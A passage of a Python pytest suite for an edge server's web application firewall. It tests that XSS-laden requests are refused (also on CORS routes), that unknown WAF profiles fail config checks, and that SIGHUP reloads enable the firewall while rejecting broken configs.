    assert record["attrs"]["edge.auth.outcome"] == "denied_waf"
    assert record["attrs"]["edge.auth.subject"] == "mallory"
    clean = h1.get(lab.http("/private/f.txt"), headers=bearer(mint(keys)))
    assert (clean.status_code, clean.text) == (200, "private\n")


def test_refusal_on_a_cors_route_is_readable_by_the_page(lab: Lab, h1: httpx.Client) -> None:
    response = h1.get(lab.http(f"/cors/f.txt?q={q(XSS)}"), headers={"Origin": APP})
    refused(response, 403, XSS)
    assert response.headers["access-control-allow-origin"] == APP
    assert "origin" in response.headers["vary"].lower()
    # The reference is readable by the page, so it can show it to the user who calls support.
    assert "edge-reference" in response.headers["access-control-expose-headers"].lower()
    other = h1.get(lab.http(f"/cors/f.txt?q={q(XSS)}"), headers={"Origin": "https://evil.example"})
    refused(other, 403, XSS)
    assert "access-control-allow-origin" not in other.headers


# =========================================================================== 9. config: check and reload


def waf_config(site: Path, cert: Issued, **waf: Any) -> dict[str, Any]:
    config = base_config(site, cert, waf=waf)
    config["routes"] = [{"path": "/", "static": {"root": str(site)}}, {"path": "/sub/", "static": {"root": str(site)}}]
    return config


@pytest.mark.parametrize(
    ("waf", "route_waf", "key"),
    [
        ({"profile": "strict"}, {}, "waf.profile"),
        ({}, {"profile": "strict"}, "routes[1].waf.profile"),
    ],
    ids=["default", "route"],
)
def test_unknown_profile_fails_check_naming_file_and_key(
    tmp_path: Path, site: Path, localhost_cert: Issued, waf: dict[str, Any], route_waf: dict[str, Any], key: str
) -> None:
    config = waf_config(site, localhost_cert, enabled=True, profiles=[{"name": "watch", "action": "shadow"}], **waf)
    if route_waf:
        config["routes"][1]["waf"] = route_waf
    path = tmp_path / "edge.toml"
    path.write_text(to_toml(config))
    result = check(path)
    assert result.returncode != 0
    assert (
        f"{path}: {key}: no WAF profile named 'strict' (profiles: aggressive, balanced, watch);"
        " define it in [[waf.profiles]]" in result.stderr
    ), result.stderr
    # Naming the configured profile instead is accepted.
    path.write_text(to_toml(config).replace('"strict"', '"watch"'))
    assert check(path).returncode == 0


def test_reload_switches_the_firewall_on_for_open_connections_and_bad_config_keeps_the_old(
    start_server: StartServer, site: Path, localhost_cert: Issued
) -> None:
    config = waf_config(site, localhost_cert)
    config["routes"][1]["waf"] = {"enabled": True}  # one route opts in while [waf] is off
    server = start_server(config)
    conn = Connection(server.address("http"))
    attack = f"/hello.txt?q={q(XSS)}"
    try:
        assert conn.get(attack) == (200, b"hello world\n")
        assert conn.get(f"/sub/index.html?q={q(XSS)}")[0] == 403

        config["waf"] = {"enabled": True}
        server.write_config(config)
        server.signal(signal.SIGHUP)
        wait_for(lambda: conn.get(attack)[0] == 403, 5, "the firewall on after the reload")
        assert conn.get("/hello.txt") == (200, b"hello world\n")

        # A config that would switch it off again but names no real profile: refused, the firewall stays.
        broken = {**config, "waf": {"enabled": False, "profile": "strict"}}
        server.write_config(broken)
        server.signal(signal.SIGHUP)
        wait_for(lambda: bool(events(server, "config.reload_refused")), 5, "the reload refused")
        (refusal,) = events(server, "config.reload_refused")
        assert f"{server.config_path}: waf.profile: no WAF profile named 'strict'" in refusal["msg"]
        status, body = conn.get(attack)
        assert status == 403 and body.startswith(b"403 Forbidden\nreference: ")
        assert conn.get("/sub/index.html") == (200, b"<h1>sub</h1>\n")
        assert len(events(server, "config.reloaded")) == 1
    finally:
        conn.close()
